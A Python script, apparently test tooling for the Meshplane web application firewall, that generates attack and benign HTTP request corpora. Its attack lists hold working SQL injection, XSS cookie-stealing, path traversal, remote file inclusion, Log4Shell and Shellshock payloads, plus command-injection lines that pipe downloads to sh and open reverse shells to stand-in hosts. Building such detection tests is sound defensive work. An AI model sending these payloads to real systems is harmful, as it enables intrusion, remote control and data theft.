"""Writes attacks.jsonl and benign.jsonl beside it: payloads written for Meshplane from public knowledge
of attack classes, placed in query, form and JSON bodies. Run: python3 src/test/resources/waf/make_corpora.py"""
import os
import json, urllib.parse, random
random.seed(7)
UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
def req(method, target, body="", ct="", ua=UA, cls="", extra=None):
    h = [["Host", "shop.example.com"], ["Accept", "*/*"]]
    if ua is not None: h.append(["User-Agent", ua])
    if ct: h.append(["Content-Type", ct])
    for k, v in (extra or []): h.append([k, v])
    return {"class": cls, "method": method, "target": target, "headers": h, "body": body}
q = lambda s: urllib.parse.quote(s, safe="")

sqli = ["' OR '1'='1", "' or 1=1--", "1 OR 1=1", "admin'--", "' UNION SELECT username, password FROM users--",
 "1 UNION ALL SELECT NULL,NULL,NULL--", "1' AND SLEEP(5)--", "1; DROP TABLE users", "'; EXEC xp_cmdshell('dir')--",
 "1' AND 1=CONVERT(int,@@version)--", "' AND extractvalue(1,concat(0x7e,version()))--", "1 AND (SELECT 1 FROM pg_sleep(5))",
 "'; WAITFOR DELAY '0:0:5'--", "1' ORDER BY 3--", "' UNION/**/SELECT/**/1,2,3--", "') OR ('a'='a", "\" OR \"\"=\"",
 "1' AND '1'='1", "x' AND email IS NULL; --", "' OR 'x'='x';#", "1 AND BENCHMARK(5000000,MD5(1))",
 "' UNION SELECT table_name FROM information_schema.tables--", "1'; INSERT INTO users VALUES('a','b')--",
 "1; UPDATE users SET role='admin' WHERE id=1", "' || '1'='1", "admin' #", "1' GROUP BY 1,2,3--",
 "' AND updatexml(1,concat(0x7e,(SELECT user())),1)--", "1 or true", "' or true--", "1) OR (1=1",
 "' UNION SELECT load_file('/etc/passwd')--", "' INTO OUTFILE '/var/www/shell.php'--", "1;SELECT pg_sleep(10)",
 "-1 UNION SELECT 1,group_concat(name),3 FROM sqlite_master", "' AND 1=(SELECT COUNT(*) FROM sys.tables)--",
 "'/**/OR/**/1=1", "1' and substring(@@version,1,1)='5", "' OR 'a'<>'b", "%' AND 1=0 UNION SELECT 1--"]
xss = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
 "\"><script>alert(document.cookie)</script>", "javascript:alert(1)", "<iframe src=\"javascript:alert(1)\"></iframe>",
 "<body onload=alert('xss')>", "<a href=\"javascript:void(0)\" onclick=\"steal()\">x</a>", "<ScRiPt>prompt(1)</sCrIpT>",
 "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "'\"><img src=x onerror=confirm(1)>", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
 "<embed src=\"//evil.example/x.swf\">", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
 "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<div style=\"background:url(javascript:alert(1))\">",
 "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>", "<video><source onerror=\"alert(1)\">",
 "</title><script src=//evil.example/x.js></script>", "<marquee onstart=alert(1)>", "<form action=\"javascript:alert(1)\"><input type=submit>",
 "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "\" onmouseover=\"alert(1)", "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
 "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;", "<scr<script>ipt>alert(1)</scr</script>ipt>", "document.location='//evil.example/?c='+document.cookie",
 "<iframe srcdoc=\"<script>alert(1)</script>\">", "<base href=\"//evil.example/\">"]
trav = ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/var/www/../../etc/shadow",
 "..%2f..%2f..%2fetc%2fpasswd", "../../../../proc/self/environ", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
 "/etc/passwd%00.jpg", "../../../../boot.ini", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", "phar://uploads/avatar.jpg/shell",
 "expect://id", "../../../.ssh/id_rsa", "../.env", "/proc/self/cmdline", "C:\\Windows\\win.ini", "zip://uploads/a.zip#shell.php"]
rfi = ["http://evil.example/shell.txt?", "https://attacker.example/r57.php", "http://198.51.100.7/x.txt", "ftp://203.0.113.9/backdoor.php?",
 "http://evil.example/inc.txt??", "https://evil.example/payload.jsp", "http://192.0.2.66:8080/cmd.sh"]
rce = [";cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "; wget http://evil.example/x.sh -O /tmp/x", "&& curl http://evil.example/a | sh",
 "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", "{{7*7}}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
 "; nc -e /bin/sh 198.51.100.7 4444", "| powershell -enc SQBFAFgA", "127.0.0.1; ping -c 3 evil.example", "a;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
 "${env:AWS_SECRET_ACCESS_KEY}", "||sleep 10||"]
scanners = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Nmap Scripting Engine",
 "masscan/1.3", "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Mozilla/5.0 (compatible; Acunetix)",
 "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6", "Fuzz Faster U Fool v2.1.0", "Wfuzz/3.1.0", "DirBuster-1.0-RC1",
 "Mozilla/5.0 (Hydra)", "Mozilla/5.0 w3af.org", "Arachni/v1.5.1", "() { :; }; /bin/bash -c 'id'"]

attacks = []
paths = ["/search", "/products", "/api/items", "/login", "/page"]
names = ["q", "id", "name", "category", "redirect"]
for i, p in enumerate(sqli + xss + trav + rfi + rce):
    cls = "sqli" if p in sqli else "xss" if p in xss else "traversal" if p in trav else "rfi" if p in rfi else "rce"
    n = names[i % len(names)] if cls != "rfi" else ["file", "page", "include", "template", "url"][i % 5]
    attacks.append(req("GET", "%s?%s=%s" % (paths[i % len(paths)], n, q(p)), cls=cls))
    attacks.append(req("POST", "/api/v1/comments", json.dumps({"author": "x", n: p}), "application/json", cls=cls))
    if i % 2 == 0:
        attacks.append(req("POST", "/account/update", "%s=%s&submit=Save" % (n, q(p)), "application/x-www-form-urlencoded", cls=cls))
for t in ["/static/../../../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd", "/images/..%2f..%2f..%2fetc/shadow", "/a/%252e%252e/%252e%252e/etc/passwd",
          "/download/..\\..\\windows\\win.ini", "/.git/config", "/.env", "/app/.htaccess", "/WEB-INF/../web.config", "/file%00.php",
          "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/icons/.%2e/%2e%2e/%2e%2e/etc/passwd", "/proc/self/environ", "/backup/.svn/entries"]:
    attacks.append(req("GET", t, cls="traversal"))
for u in scanners:
    attacks.append(req("GET", "/", ua=u, cls="scanner"))
    attacks.append(req("GET", "/wp-login.php", ua=u, cls="scanner"))
attacks.append(req("POST", "/api/orders", '{"item": "a", "qty": 3,', "application/json", cls="body"))
attacks.append(req("POST", "/api/orders", '{"item": "a" "qty": 3}', "application/json", cls="body"))
attacks.append(req("POST", "/api/orders", "{'item': 'a'}", "application/json", cls="body"))
attacks.append(req("POST", "/api/orders", '[' * 40 + ']' * 40, "application/json", cls="body"))
attacks.append(dict(req("POST", "/upload", "x" * 100, "application/octet-stream", cls="body"), body_size=50 * 1024 * 1024))
attacks.append(req("GET", "/search?" + "&".join("p%d=%d" % (k, k) for k in range(200)), cls="body"))
attacks.append(req("TRACE", "/", cls="protocol"))
attacks.append(req("DEBUG", "/default.aspx", cls="protocol"))
attacks.append(req("GET", "/search?q=%zz%27", cls="body"))
attacks.append(req("GET", "/", ua=None, extra=[["User-Agent", "${jndi:ldap://198.51.100.7:1389/Exploit}"]], cls="rce"))
attacks.append(req("GET", "/", extra=[["Referer", "${jndi:dns://evil.example/a}"]], cls="rce"))
attacks.append(req("GET", "/", ua=None, cls="scanner"))
attacks.append(req("GET", "/cgi-bin/status", ua="() { :; }; echo; /bin/cat /etc/passwd", cls="rce"))

benign_text = ["O'Brien", "Ireland's best pubs", "rock 'n' roll", "\"exact phrase\" search", "what's new in java 21",
 "Tom & Jerry", "AT&T phone plans", "50% off shoes", "C++ vs C#", "how to select a laptop", "drop shipping from china",
 "union station chicago", "I'd like to update my address", "cats and dogs", "1 or 2 bedrooms", "don't stop believin'",
 "price < 100 and > 50", "SELECT shoes size 42", "O'Reilly media books", "l'Oréal shampoo", "naïve café",
 "Where's the nearest station?", "it's 5 o'clock", "#hashtag trends", "email me at jane.doe@example.com",
 "https://www.example.org/docs/getting-started", "Delete my account please", "the script of the movie", "javascript tutorial for beginners",
 "Java: the complete reference", "what does 'or' mean in logic", "1=1 is always true in math", "sleep better tips",
 "insert coin to continue", "top 10 update notes", "D'Angelo - Voodoo", "bread & butter", "x > y", "a/b testing guide",
 "Robert'); a classic xkcd", "../ is the parent directory in unix", "iPhone 15 Pro (256 GB)", "¿Dónde está la biblioteca?",
 "東京 ホテル", "Grüße aus München", "size: M; color: blue", "2024-05-01..2024-05-31", "The Who - Baba O'Riley",
 "ordering by price", "\"hello world\" in C", "mean = sum / n", "cost * 1.2 + tax", "Smith, John", "It's a 'quoted' word; ok",
 "user's guide -- chapter 2", "N/A", "path/to/file.txt", "1,2,3", "hello -- world", "she said \"hi\"; he left",
 "$100 gift card", "{curly} braces", "50 < x < 60", "Q&A session", "100% cotton", "user-agent string parsing",
 "Let's meet at 5; bring snacks", "The 'select' element in HTML forms", "update: we are open on sunday", "my password doesn't work",
 "can't login", "She's the boss", "Harry Potter and the Philosopher's Stone", "Ocean's Eleven", "Guns N' Roses", "M&M's",
 "5' 11\" height", "dimensions 10\" x 12\"", "we're hiring!"]
code = ["for (int i = 0; i < n; i++) { sum += a[i]; }", "def f(x):\n    return x * 2\n", "SELECT name FROM users WHERE id = ? -- parameterized",
 "if (a && b || c) { return; }", "const x = items.filter(i => i.ok).map(i => i.id);", "git commit -m 'fix: handle null'",
 "<p>Hello <b>world</b></p>", "Use `kubectl get pods` to list pods", "printf(\"%d\\n\", x);", "x = y ? 1 : 0;",
 "docker run --rm -it alpine sh", "import os\nprint(os.getcwd())", "<ul><li>one</li><li>two</li></ul>", "a | b | c table",
 "curl is a tool to transfer data", "The function returns -1 on error", "list.sort((a, b) => a - b)", "println!(\"{}\", v);",
 "UPDATE: the release is out", "<br>", "Markdown **bold** and _italic_", "price: $5 (was $10)", "[link](https://example.com)",
 "ssh user@host", "var s = 'it\\'s';", "while (true) { tick(); }", "npm install --save lodash", "SUM(A1:A10)", "=VLOOKUP(B2, C:D, 2, FALSE)"]
benign = []
bpaths = ["/search", "/products", "/api/v1/search", "/catalog", "/help"]
for i, t in enumerate(benign_text):
    benign.append(req("GET", "%s?q=%s&page=%d" % (bpaths[i % 5], q(t), i % 4 + 1), cls="text"))
    benign.append(req("POST", "/api/v1/reviews", json.dumps({"product": 1000 + i, "rating": i % 5 + 1, "title": t, "body": t + ". Really liked it, would buy again."}), "application/json", cls="json"))
    if i % 2 == 0:
        benign.append(req("POST", "/contact", "name=%s&message=%s" % (q("Pat O'Neil"), q(t)), "application/x-www-form-urlencoded", cls="form"))
for i, c in enumerate(code):
    benign.append(req("POST", "/api/v1/snippets", json.dumps({"language": "text", "title": "snippet %d" % i, "code": c}), "application/json", cls="code"))
    benign.append(req("POST", "/forum/post", "subject=Question&body=%s" % q("Why does this fail?\n" + c), "application/x-www-form-urlencoded", cls="code"))
for p in ["/", "/index.html", "/static/css/site.css", "/static/js/app.3f9a1c.js", "/images/logo.png", "/favicon.ico", "/api/v1/users/42",
          "/api/v1/orders?status=open&sort=-created_at&limit=50", "/products/blue-shoes-42", "/blog/2024/05/hello-world", "/docs/api/v2/",
          "/.well-known/openid-configuration", "/health", "/api/v1/items?ids=1,2,3&fields=name,price", "/search?q=&page=1",
          "/redirect?next=%2Faccount%2Fsettings", "/callback?code=4%2F0AbC-dEf&state=xyz123", "/track?utm_source=newsletter&utm_medium=email",
          "/products?filter%5Bcolor%5D=red&filter%5Bsize%5D=M", "/download/report-2024-Q1.pdf", "/api/v1/files/a%20b.txt",
          "/u/jane.doe", "/wiki/Main_Page", "/wiki/C%2B%2B", "/wiki/O%27Reilly_Media", "/maps?ll=40.7128,-74.0060&z=12",
          "/feed.xml", "/robots.txt", "/sitemap.xml", "/login?return_to=https%3A%2F%2Fshop.example.com%2Fcart"]:
    benign.append(req("GET", p, cls="browse"))
    benign.append(req("HEAD", p, ua="curl/8.5.0", cls="browse"))
for i in range(40):
    doc = {"id": i, "name": "Widget %d" % i, "tags": ["a", "b"], "price": 9.99 + i, "active": i % 2 == 0,
           "owner": {"name": "Sam O'Hara", "email": "sam%d@example.com" % i}, "notes": "Ships in 2-3 days; handle with care."}
    benign.append(req(["POST", "PUT", "PATCH"][i % 3], "/api/v1/widgets/%d" % i, json.dumps(doc), "application/json; charset=utf-8", cls="json"))
benign.append(req("DELETE", "/api/v1/widgets/7", cls="json"))
benign.append(req("OPTIONS", "/api/v1/widgets", cls="json"))
benign.append(req("POST", "/upload", "\x89PNG binary-ish data", "image/png", cls="upload"))
benign.append(req("POST", "/api/v1/events", json.dumps({"events": [{"t": k, "v": "click"} for k in range(30)]}), "application/json", cls="json"))
benign.append(req("GET", "/api/v1/users", ua="python-requests/2.31.0", cls="api"))
benign.append(req("GET", "/api/v1/users", ua="Go-http-client/1.1", cls="api"))
benign.append(req("GET", "/api/v1/users", ua="okhttp/4.12.0", extra=[["Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc"], ["Cookie", "session=abc123; theme=dark"]], cls="api"))

with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl"), "w") as f:
    for a in attacks: f.write(json.dumps(a, ensure_ascii=False) + "\n")
with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "benign.jsonl"), "w") as f:
    for b in benign: f.write(json.dumps(b, ensure_ascii=False) + "\n")
print(len(attacks), len(benign))
